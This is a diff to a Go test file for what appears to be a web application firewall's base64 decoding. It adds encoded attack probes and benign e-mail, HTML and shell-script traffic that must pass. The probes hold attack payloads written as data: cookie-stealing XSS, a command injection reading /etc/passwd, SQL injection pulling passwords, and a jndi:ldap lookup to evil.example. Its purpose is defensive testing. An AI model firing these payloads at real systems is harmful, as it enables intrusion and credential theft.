@@ -144,6 +144,10 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "base64 with dots between groups (Node and Python skip them)", method: "GET", path: "/search?q=" + q(dotted(b64("<script>alert(document.cookie)</script>"), "."))},
 		{name: "base64 with dashes between groups (Python skips them)", method: "POST", path: "/ping", contentType: form, body: "host=" + q(dotted(b64("127.0.0.1; cat /etc/passwd"), "-"))},
 		{name: "base64 of both alphabets in one value (Node reads - as + and _ as /)", method: "POST", path: "/api", contentType: js, body: `{"v": "` + strings.Replace(b64("1' OR 1=1 -- ???>>> ~~~ UNION SELECT password FROM users"), "/", "_", 1) + `"}`},
+		{name: "SQLi in a base64 e-mail message (read by every rule but XSS)", method: "POST", path: "/gmail/v1/users/me/messages/send", contentType: js,
+			body: `{"raw": "` + b64url(htmlMail("1' UNION SELECT username, password FROM users--")) + `"}`},
+		{name: "jndi in a base64 shell script", method: "POST", path: "/api/jobs", contentType: js,
+			body: `{"content": "` + b64("#!/bin/sh\nset -eu\necho '${jndi:ldap://evil.example/a}'\n") + `"}`},
 		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
 		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
 		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
@@ -212,6 +216,23 @@ func attackTable() (crsCatches, crsMisses []probe) {
 	return crsCatches, crsMisses
 }
 
+// htmlMail is an e-mail message with an HTML body, as Gmail's API takes it
+// (raw) and SendGrid's attachments carry HTML, with the given text in it.
+func htmlMail(text string) string {
+	return "From: Jane <jane@example.com>\r\nTo: bob@example.com\r\nSubject: Your order #1234 has shipped\r\n" +
+		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=\"UTF-8\"\r\n\r\n" +
+		`<html><body><p>Hi Bob,</p><p>Your order <b>#1234</b> has shipped. <a href="https://example.com/orders/1234?utm_source=email&amp;utm_medium=email">Track it</a>.</p>` +
+		`<img src="https://example.com/logo.png" alt="logo" width="120"><p style="color:#888;font-family:Arial,sans-serif">` + text +
+		` <a href="https://example.com/unsubscribe?u=abc123">Unsubscribe</a></p></body></html>` + "\r\n"
+}
+
+// htmlPage is an HTML document with the given text in it.
+func htmlPage(text string) string {
+	return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Invoice 1234</title><style>td{padding:4px}</style></head>` +
+		`<body><h1>Invoice 1234</h1><table><tr><td>Lamp</td><td>$5.99</td></tr><tr><td>Shipping</td><td>$2.00</td></tr></table>` +
+		`<p>` + text + `</p><p><a href="https://example.com/invoices/1234.pdf">Download the PDF</a></p></body></html>`
+}
+
 // benignTable is ordinary traffic that must pass: the false-positive
 // budget is none of it refused, with the additions as without them.
 func benignTable() []probe {
@@ -275,6 +296,14 @@ func benignTable() []probe {
 			body: `{"title": "Q3-2026 roadmap: re-design, follow-ups", "body": "Well-known, long-standing issues; e.g. state-of-the-art end-to-end tests... (see ticket ABC-1234)."}`},
 		{name: "an XML document with base64 of plain text and of binary", method: "POST", path: "/api/files", contentType: "application/xml",
 			body: `<?xml version="1.0" encoding="UTF-8"?><file name="readme.txt" sha="9f86d081884c7d659a2feaa0c55ad015"><content>` + b64("Hello, world! This is a plain text file.\nLine two.") + `</content><thumb>iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==</thumb></file>`},
+		{name: "an e-mail with an HTML body in base64url (Gmail's API raw)", method: "POST", path: "/gmail/v1/users/me/messages/send", contentType: js,
+			body: `{"raw": "` + b64url(htmlMail("Example Inc., 1 Main St.")) + `"}`},
+		{name: "an HTML attachment in base64 (SendGrid's mail/send)", method: "POST", path: "/v3/mail/send", contentType: js,
+			body: `{"personalizations": [{"to": [{"email": "bob@example.com"}]}], "from": {"email": "shop@example.com"}, "subject": "Invoice", "attachments": [{"content": "` + b64(htmlPage("Thank you for your order!")) + `", "filename": "invoice.html", "type": "text/html"}]}`},
+		{name: "a small shell script in base64", method: "POST", path: "/api/jobs", contentType: js,
+			body: `{"name": "deploy.sh", "content": "` + b64("#!/bin/sh\nset -eu\ncd /opt/app\n./bin/migrate --env production\nsystemctl restart app.service\necho \"deployed $(date)\"\n") + `"}`},
+		{name: "an LDAP filter sent as data (an admin API)", method: "POST", path: "/admin/directory/search", contentType: js,
+			body: `{"filter": "(&(objectClass=user)(mail=a@b.c))", "or": "(|(cn=Jane*)(mail=jane@example.com))"}`},
 		{name: "an Accept-Language header", method: "GET", path: "/", header: http.Header{"Accept-Language": {"de-CH,de;q=0.9,en;q=0.8"}}},
 	}
 }
@@ -404,6 +433,24 @@ func FuzzTemplateLiterals(f *testing.F) {
 			t.Fatalf("%q: %q (%d bytes from %d)", v, got, len(got), len(v))
 		}
 	})
+}
+
+func TestDocumentKind(t *testing.T) {
+	for s, want := range map[string]string{
+		htmlMail("x"):                       suffixHTML,
+		htmlPage("x"):                       suffixHTML,
+		"#!/bin/sh\nset -e\necho hi\n":      suffixScript,
+		"#!/bin/sh; cat /etc/passwd":        "", // one line: a command, not a script
+		"<script>alert(1)</script>":         "",
+		"From: a\r\n\r\n<script>x</script>": "", // too short for a document
+		"Subject: x\r\n" + strings.Repeat("not a header line\r\n", 20) + "\r\n" + strings.Repeat("x", 300): "",
+		"<html>" + strings.Repeat("x", 100):                          "",
+		strings.Repeat("1' UNION SELECT password FROM users-- ", 10): "",
+	} {
+		if got := documentKind(s); got != want {
+			t.Errorf("documentKind(%.40q) = %q, want %q", s, got, want)
+		}
+	}
 }
 
 func TestDecoderBoundsAndLevels(t *testing.T) {
